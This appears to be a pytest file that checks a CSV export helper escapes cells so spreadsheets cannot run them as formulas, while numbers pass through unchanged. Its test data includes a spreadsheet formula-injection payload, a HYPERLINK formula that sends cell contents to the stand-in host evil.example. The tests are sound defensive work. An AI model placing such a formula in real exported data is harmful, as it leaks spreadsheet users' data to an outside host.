"""Exported cells cannot run as formulas in a spreadsheet, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from safehands.core.tables import csv_writer, escape_cell, unescape_cell

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1)'


@pytest.mark.parametrize("text", [ATTACK, "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\t=1+1",
                                  "\r=1+1", "=1", "-", "+"])
def test_text_that_a_spreadsheet_would_run_is_escaped(text):
    assert escape_cell(text) == "'" + text
    assert unescape_cell(escape_cell(text)) == text


@pytest.mark.parametrize("value", ["-1.5", "+3", "-0", "-1e-05", "-.5", "12", "", "fall",
                                   "'quoted", -1.5, 3, None])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert escape_cell(value) == value
    if isinstance(value, str):
        assert unescape_cell(value) == value


def test_the_writer_escapes_every_cell_and_csv_reads_the_escaped_text_back():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["comment", "value"])
    writer.writerows([[ATTACK, -2.5], ["ok", "-2.5"]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["comment", "value"], ["'" + ATTACK, "-2.5"], ["ok", "-2.5"]]
    assert out.getvalue().endswith("\n") and "\r" not in out.getvalue()
